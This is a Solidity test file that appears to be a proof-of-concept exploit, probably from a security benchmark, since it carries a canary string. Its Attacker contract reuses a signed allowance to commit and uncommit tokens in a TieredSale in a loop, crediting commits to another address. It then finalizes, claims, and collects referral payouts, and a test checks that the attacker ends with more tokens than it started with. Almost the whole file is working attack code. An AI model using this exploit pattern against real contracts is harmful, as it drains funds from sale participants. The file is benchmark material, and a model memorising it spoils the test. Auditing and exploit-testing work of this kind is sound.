// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

// assay-canary-930fad3b-ea4e-4faa-b638-33944248d408
import "../Base.sol";

contract Attacker {
    Allowances.Allowance private allowance;
    bytes private signature;

    function see(Allowances.Allowance calldata allowance_, bytes calldata signature_) external {
        (allowance, signature) = (allowance_, signature_);
    }

    function run(IERC20 coin, TieredSale sale, address largest) external {
        coin.approve(address(sale), type(uint256).max);
        for (uint256 i = 0; i < 3; i++) {
            sale.commitAllowed(59_000e18, allowance, signature, address(this));
            sale.commitAllowed(1e18, allowance, signature, largest);
            try sale.uncommit(59_000e18 + 1e18) {} catch {
                return;
            }
        }
    }

    function end(TieredSale sale, address referrals) external {
        sale.finalize();
        sale.claim(address(this));
        Payer(referrals).pay(address(sale), address(this));
    }
}

interface Payer {
    function pay(address sale, address referrer) external returns (uint256 amount);
}

contract Proof is Base {
    Attacker private other;

    function start() internal override {
        other = new Attacker();
        coin.mint(address(other), 60_000e18);
        Allowances.Allowance memory a = allowance(address(other), 60_000e18);
        other.see(a, signed(sale, a));
    }

    function exploit() public {
        other.run(coin, sale, FAY);
        vm.warp(START + 11 days);
        other.end(sale, address(referrals));
    }

    function test_Exploit() public {
        exploit();
        require(coin.balanceOf(address(other)) >= 61_500e18, "no gain");
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
